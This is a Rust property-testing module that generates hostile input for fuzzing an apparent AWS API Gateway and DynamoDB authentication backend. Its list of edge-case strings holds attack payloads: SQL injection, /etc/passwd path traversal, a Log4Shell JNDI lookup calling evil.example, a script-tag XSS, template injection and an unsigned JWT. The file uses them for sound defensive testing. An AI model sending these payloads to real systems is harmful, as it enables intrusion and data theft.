//! Generators of hostile input.

use aws_sdk_dynamodb::{primitives::Blob, types::AttributeValue};
use proptest::{
    collection::{hash_map, vec},
    prelude::*,
    sample::{Index, select},
};
use serde_json::{Map, Value};

/// Texts that broke other programs, and texts of any characters.
pub(super) fn text() -> impl Strategy<Value = String> {
    let nasty = [
        "",
        " ",
        "\0",
        "\u{feff}",
        "ü",
        "\u{202e}txt.exe",
        "💣💣",
        "e\u{301}",
        "\u{10ffff}",
        "null",
        "true",
        "-1",
        "1e400",
        "9007199254740993",
        "' OR '1'='1",
        "../../../etc/passwd",
        "${jndi:ldap://evil.example}",
        "<script>alert(1)</script>",
        "%",
        "%00",
        "%ff%fe",
        "%C0%AF",
        "{{7*7}}",
        "[[[[[[",
        "\"",
        "\\",
        "a=b&a=c",
        "=",
        "&",
        "Bearer ",
        "eyJhbGciOiJub25lIn0.e30.",
        "::ffff:203.0.113.7",
        "2001:db8::1",
        "999.1.1.1",
        "USER#x",
        "EMAIL#x",
    ];
    let long = prop_oneof![Just("a"), Just("é"), Just("%"), Just("[")];
    prop_oneof![
        3 => select(nasty.to_vec()).prop_map(str::to_owned),
        3 => vec(any::<char>(), 0..80).prop_map(String::from_iter),
        1 => (long, 0_usize..20_000).prop_map(|(piece, times)| piece.repeat(times)),
    ]
}

pub(super) fn value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        text().prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 20, 5, |inner| {
        prop_oneof![
            vec(inner.clone(), 0..5).prop_map(Value::from),
            hash_map(text(), inner, 0..5).prop_map(|members| Value::Object(Map::from_iter(members))),
        ]
    })
}

#[derive(Clone, Debug)]
pub(super) enum Change {
    Replace(Value),
    Remove,
    Add(String, Value),
}

pub(super) fn changes() -> impl Strategy<Value = Vec<(Index, Change)>> {
    let change = prop_oneof![
        3 => value().prop_map(Change::Replace),
        1 => Just(Change::Remove),
        1 => (text(), value()).prop_map(|(name, value)| Change::Add(name, value)),
    ];
    vec((any::<Index>(), change), 1..6)
}

/// The JSON pointers (RFC 6901) of a value's parts.
fn places(value: &Value, at: &str, found: &mut Vec<String>) {
    found.push(at.to_owned());
    match value {
        Value::Object(members) => {
            for (name, member) in members {
                places(
                    member,
                    &format!("{at}/{}", name.replace('~', "~0").replace('/', "~1")),
                    found,
                );
            }
        }
        Value::Array(items) => {
            for (index, item) in items.iter().enumerate() {
                places(item, &format!("{at}/{index}"), found);
            }
        }
        _ => {}
    }
}

pub(super) fn apply(value: &mut Value, changes: Vec<(Index, Change)>) {
    for (index, change) in changes {
        let mut found = Vec::new();
        places(value, "", &mut found);
        let place = index.get(&found).clone();
        match change {
            Change::Replace(new) => *value.pointer_mut(&place).unwrap() = new,
            Change::Add(name, new) => {
                if let Some(Value::Object(members)) = value.pointer_mut(&place) {
                    members.insert(name, new);
                }
            }
            Change::Remove => {
                if let Some((parent, name)) = place.rsplit_once('/')
                    && let Some(Value::Object(members)) = value.pointer_mut(parent)
                {
                    members.remove(&name.replace("~1", "/").replace("~0", "~"));
                }
            }
        }
    }
}

/// What a client controls: API Gateway passes it on in an event that is always well-formed.
#[derive(Clone, Debug)]
pub(super) struct Client {
    pub headers: Vec<(&'static str, String)>,
    pub query: Option<String>,
    pub segment: Option<String>,
    pub body: Body,
}

#[derive(Clone, Debug)]
pub(super) enum Body {
    AsItIs,
    Text(String),
    Json(Value),
    Bytes(Vec<u8>),
}

pub(super) fn client() -> impl Strategy<Value = Client> {
    let names = [
        "authorization",
        "content-type",
        "user-agent",
        "host",
        "cookie",
        "x-forwarded-for",
        "x-forwarded-proto",
        "x-forwarded-port",
        "x-device-name",
        "x-device-id",
        "idempotency-key",
        "cloudfront-viewer-address",
        "cloudfront-viewer-city",
        "cloudfront-viewer-country",
        "x-origin-verify",
        "x-amzn-trace-id",
        "accept",
    ];
    let header = text().prop_map(|text| text.chars().filter(|c| !c.is_control()).collect::<String>());
    let field = select(
        &[
            "email",
            "username",
            "password",
            "refresh_token",
            "device_name",
            "device_id",
            "grant_type",
            "except_current",
            "x",
        ][..],
    );
    let body = prop_oneof![
        2 => Just(Body::AsItIs),
        1 => text().prop_map(Body::Text),
        2 => hash_map(field, value(), 0..6).prop_map(|members| {
            Body::Json(members.into_iter().map(|(name, value)| (name.to_owned(), value)).collect())
        }),
        1 => vec(any::<u8>(), 0..300).prop_map(Body::Bytes),
    ];
    (
        vec((select(names.to_vec()), header), 0..6),
        proptest::option::of(text()),
        proptest::option::of(text()),
        body,
    )
        .prop_map(|(headers, query, segment, body)| Client {
            headers,
            query,
            segment,
            body,
        })
}

/// Any value of an attribute, whoever wrote it.
pub(super) fn attribute() -> impl Strategy<Value = AttributeValue> {
    let numbers = [
        "0",
        "-1",
        "1.5",
        "1E+100",
        "18446744073709551616",
        "-9223372036854775809",
    ];
    prop_oneof![
        text().prop_map(AttributeValue::S),
        select(numbers.to_vec()).prop_map(|number| AttributeValue::N(number.to_owned())),
        any::<bool>().prop_map(AttributeValue::Bool),
        Just(AttributeValue::Null(true)),
        vec(any::<u8>(), 0..40).prop_map(|bytes| AttributeValue::B(Blob::new(bytes))),
        vec(text().prop_map(AttributeValue::S), 0..3).prop_map(AttributeValue::L),
        // DynamoDB rejects members without a name.
        hash_map(
            text().prop_map(|name| format!("m{name}")),
            text().prop_map(AttributeValue::S),
            0..3
        )
        .prop_map(AttributeValue::M),
    ]
}
